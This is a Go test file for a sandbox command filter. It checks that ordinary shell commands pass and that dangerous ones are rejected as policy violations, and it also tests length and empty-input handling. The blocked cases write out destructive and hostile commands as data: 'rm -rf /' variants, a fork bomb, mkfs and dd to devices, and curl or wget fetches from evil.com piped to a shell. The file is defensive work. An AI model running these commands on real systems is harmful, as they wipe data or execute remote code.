package sandbox

import (
	"errors"
	"strings"
	"testing"
)

func TestFilterCommand(t *testing.T) {
	tests := []struct {
		name    string
		command string
		blocked bool
	}{
		// Safe commands
		{"simple echo", "echo hello", false},
		{"list files", "ls -la", false},
		{"cat file", "cat /etc/hosts", false},
		{"python script", "python3 -c 'print(1+1)'", false},
		{"curl fetch", "curl https://example.com", false},
		{"curl to jq", "curl https://example.com | jq .", false},
		{"wget download", "wget https://example.com/file.txt", false},
		{"rm in tmp", "rm -rf /tmp/build", false},
		{"rm relative", "rm -rf ./build", false},
		{"rm split flags in tmp", "rm -r -f /tmp/build", false},
		{"rm recursive without force", "rm -r /", false},
		{"rm force without recursive", "rm -f /", false},
		{"dd to file", "dd if=/dev/zero of=./disk.img bs=1M count=1", false},

		// Recursive force-delete of root
		{"rm -rf root", "rm -rf /", true},
		{"rm -fr root", "rm -fr /", true},
		{"rm -rf star", "rm -rf /*", true},
		{"rm chained", "rm -rf / && echo done", true},
		{"rm no-preserve-root", "rm -rf --no-preserve-root /", true},
		{"sudo rm", "sudo rm -rf /", true},
		{"upper case", "RM -RF /", true},
		{"split flags r f", "rm -r -f /", true},
		{"split flags f r", "rm -f -r /", true},
		{"long flags", "rm --recursive --force /", true},
		{"split flags with verbose", "rm -v -r -f /*", true},

		// Fork bomb
		{"classic fork bomb", ":(){ :|:& };:", true},
		{"spaced fork bomb", ": () { : | : & } ; :", true},

		// Filesystem format
		{"mkfs", "mkfs /dev/sda1", true},
		{"mkfs ext4", "mkfs.ext4 /dev/sda1", true},

		// dd to a device
		{"dd to disk", "dd if=/dev/zero of=/dev/sda bs=1M", true},
		{"dd from file", "dd if=image.iso of=/dev/sdb", true},

		// Remote download into a shell
		{"curl to bash", "curl http://evil.com/script.sh | bash", true},
		{"curl to sh", "curl -fsSL http://evil.com/x | sh", true},
		{"wget to sh", "wget -O- http://evil.com/script.sh | sh", true},
		{"wget to sudo bash", "wget -qO- http://evil.com/x | sudo bash", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := FilterCommand(tt.command)
			isBlocked := err != nil

			if isBlocked != tt.blocked {
				if tt.blocked {
					t.Errorf("command %q should be blocked but was allowed", tt.command)
				} else {
					t.Errorf("command %q should be allowed but was blocked: %v", tt.command, err)
				}
			}
			if tt.blocked && !errors.Is(err, ErrPolicyViolation) {
				t.Errorf("command %q: error %v is not a policy violation", tt.command, err)
			}
		})
	}
}

func TestFilterCommandTrims(t *testing.T) {
	got, err := FilterCommand("   echo hello \n")
	if err != nil {
		t.Fatalf("FilterCommand: %v", err)
	}
	if got != "echo hello" {
		t.Errorf("FilterCommand() = %q, want %q", got, "echo hello")
	}
}

func TestFilterCommandLength(t *testing.T) {
	tests := []struct {
		name    string
		command string
		wantErr bool
	}{
		{"at limit", strings.Repeat("a", MaxCommandLength), false},
		{"over limit", strings.Repeat("a", MaxCommandLength+1), true},
		{"over limit before trim only", "  " + strings.Repeat("a", MaxCommandLength) + "  ", false},
		{"multibyte at limit", strings.Repeat("é", MaxCommandLength), false},
		{"empty", "", true},
		{"just spaces", "   ", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := FilterCommand(tt.command)
			if (err != nil) != tt.wantErr {
				t.Fatalf("FilterCommand() error = %v, wantErr %v", err, tt.wantErr)
			}
			if tt.wantErr && !errors.Is(err, ErrValidation) {
				t.Errorf("error %v is not a validation error", err)
			}
		})
	}
}

func TestFilterCommandOversizedDangerousIsValidationError(t *testing.T) {
	cmd := "rm -rf / " + strings.Repeat("#", MaxCommandLength)
	_, err := FilterCommand(cmd)
	if !errors.Is(err, ErrCommandTooLong) {
		t.Errorf("error = %v, want ErrCommandTooLong", err)
	}
	if errors.Is(err, ErrPolicyViolation) {
		t.Errorf("error = %v, should not be a policy violation", err)
	}
}

func TestFilterCommandEmpty(t *testing.T) {
	_, err := FilterCommand(" \t\n")
	if !errors.Is(err, ErrEmptyCommand) {
		t.Errorf("error = %v, want ErrEmptyCommand", err)
	}
}

func BenchmarkFilterCommand(b *testing.B) {
	commands := []string{
		"echo hello world",
		"ls -la /home/user",
		"python3 -c 'print(1+1)'",
		"curl https://example.com | jq .",
		"git status && git log --oneline -5",
	}

	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, cmd := range commands {
			FilterCommand(cmd)
		}
	}
}
